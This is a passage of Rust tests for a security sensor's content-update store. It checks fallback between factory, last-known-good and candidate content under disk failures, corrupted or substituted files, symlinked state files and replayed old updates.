                1 => world.platter().file(path).unwrap().truncate(at),
                _ => world.platter().file(path).unwrap().extend_from_slice(&[0xAA; 700]),
            }
            let device = world.open();
            let (rung, sequence) = runs(&device);
            assert!(matches!((rung, sequence), (Rung::Good, 2) | (Rung::Earlier, 1)), "{path}: {rung:?} {sequence}");
            drop(device);
            world.platter().restore(&whole);
        }
    }
}

#[test]
fn a_state_that_cannot_be_read_is_not_written_over() {
    let world = World::new();
    let device = world.with_good(&[1]);
    drop(device);
    world.platter().fails = Some((world.dice.clone(), 1));
    let mut device = world.open();
    assert!(matches!(device.status().memory, Memory::Unreadable(_)));
    assert_eq!(runs(&device), (Rung::Factory, 0));
    world.platter().fails = None;
    assert_eq!(offer(&mut device, 5), Err(Refusal::ReadOnly));
    let _ = device.check();
    let device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Good, 1));
}

/// As `1<>` of a shell does.
fn write_over(path: &std::path::Path, bytes: &[u8]) {
    use std::io::Write as _;
    let mut file = std::fs::OpenOptions::new().create(true).truncate(false).write(true).open(path).unwrap();
    file.write_all(bytes).unwrap();
}

#[test]
fn a_real_directory_does_the_same() {
    let root = std::env::temp_dir().join(format!("contentcheck-sensor-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&root);
    let world = World::new();
    let open = || {
        let platform = contentcheck_sensor::System::new(root.join("ended"));
        Store::open(world.config, contentcheck_sensor::Files::new(&root), platform, world.keys.clone())
    };
    let mut device = open();
    assert_eq!(device.role(), Role::Owner);
    assert_eq!(open().role(), Role::Guest);
    device.offer(&image(1), &envelope("release", 1)).unwrap();
    device.stop();
    for _ in 0..3 {
        write_over(&root.join("ended"), b"core-dump dumped SEGV\n");
        let mut device = open();
        let ended = std::fs::read_to_string(root.join("ended")).unwrap();
        assert!(ended.starts_with("settled ") && ended.len() == 64, "it is accounted for, and keeps its room");
        assert_eq!(device.status().rung, Rung::Candidate);
    }
    std::fs::write(root.join("ended"), "core-dump dumped SEGV\n").unwrap();
    let mut device = open();
    assert_eq!(device.status().rung, Rung::Factory, "{}", device.status());
    drop(device);
    #[cfg(unix)]
    {
        // A pipe in the place of a file is not waited for, and a link not followed.
        for name in ["state.a", "state.b"] {
            std::fs::remove_file(root.join(name)).unwrap();
            std::os::unix::fs::symlink("/dev/zero", root.join(name)).unwrap();
        }
        let mut device = open();
        assert!(matches!(device.status().memory, Memory::Lost(NoState::Length)));
        assert_eq!(device.status().rung, Rung::Factory);
    }
    std::fs::remove_dir_all(&root).unwrap();
}

#[test]
fn what_is_built_in_may_be_missing_or_damaged() {
    let mut world = World::new();
    world.config.factory = None;
    let mut device = world.open();
    assert_eq!(runs(&device), (Rung::Nothing, 0));
    assert_eq!(device.status().condition(), Condition::Blind);
    offer(&mut device, 1).unwrap();
    assert_eq!(runs(&device), (Rung::Candidate, 1));
    drop(device);
    let world = World::new();
    let mut damaged = factory().to_vec();
    damaged[100] ^= 1;
    let config = contentcheck_sensor::Config { factory: Some(damaged.leak()), ..world.config };
    let machine = crate::common::SimMachine(world.machine.clone());
    let device = Store::open(config, Sim::new(&world.platter), machine, world.keys.clone());
    let why = Unusable::Rejected(Rejection::Checksum).to_string();
    assert!(told(&device).contains(&why), "{}", told(&device));
    assert_eq!(world.machine().boot, Some(BootId([1; 16])));
}

/// Content that is sound and was made for another sensor evaluates nothing: it is run on no rung, and is no last known good.
#[test]
fn content_of_which_a_sensor_loads_no_rule_is_not_run() {
    let mut world = World::new();
    let own = world.config.manifest;
    let device = world.with_good(&[1]);
    let templates = &[Supply { template: "other.event", inputs: &[] }];
    world.config.manifest = Box::leak(Box::new(Manifest { sensor: "other", templates, ..*own }));
    let mut device = world.restart(device, Ended::Stopped);
    assert_eq!((runs(&device), device.status().condition()), ((Rung::Nothing, 0), Condition::Blind));
    for rung in ["last known good", "factory content"] {
        assert!(told(&device).contains(&format!("{rung} is passed over: {}", Unusable::Idle)), "{}", told(&device));
    }
    assert_eq!(offer(&mut device, 2), Err(Refusal::Idle));
    world.config.manifest = own;
    let mut device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Good, 1));
    offer(&mut device, 2).unwrap();
}

#[test]
fn what_a_state_on_disk_names_is_not_removed() {
    let world = World::new();
    let mut device = world.with_good(&[1, 2]);
    // Given up in memory alone, since the disk is full; files could be removed all the same.
    world.platter().refuses = Some(DiskError::Full);
    for _ in 0..100 {
        evaluate_one(&mut device.reader(), MATCHING, 1).unwrap();
    }
    let _ = device.check();
    assert_eq!(runs(&device), (Rung::Good, 1));
    world.platter().refuses = None;
    let device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Good, 2), "what is on disk names it still");
}

#[test]
fn a_trial_that_cannot_be_written_is_not_begun() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    offer(&mut device, 2).unwrap();
    world.platter().refuses = Some(DiskError::Full);
    let mut device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Good, 1));
    // It is begun once it can be, without a restart.
    world.platter().refuses = None;
    world.machine().elapsed = Some(3_600);
    let _ = device.check();
    assert_eq!(runs(&device), (Rung::Candidate, 2));
}

#[test]
fn an_envelope_of_other_content_is_none() {
    let world = World::new();
    let device = world.with_good(&[1]);
    *world.platter().file(&format!("images/{}.env", content(1).digest)).unwrap() = envelope("release", 2);
    let device = world.restart(device, Ended::Stopped);
    assert_eq!(runs(&device), (Rung::Factory, 0));
}

#[test]
fn what_was_given_up_long_ago_does_not_come_back() {
    let world = World::new();
    let mut device = world.with_good(&[1]);
    for sequence in 2..9 {
        offer(&mut device, sequence).unwrap();
        for _ in 0..100 {
            evaluate_one(&mut device.reader(), MATCHING, 1).unwrap();
        }
        let _ = device.check();
        assert_eq!(runs(&device), (Rung::Good, 1));
    }
    for sequence in 2..5 {
        let known = Sequence(8);
        assert_eq!(offer(&mut device, sequence), Err(Refusal::Old { offered: Sequence(sequence), known }));
    }
}
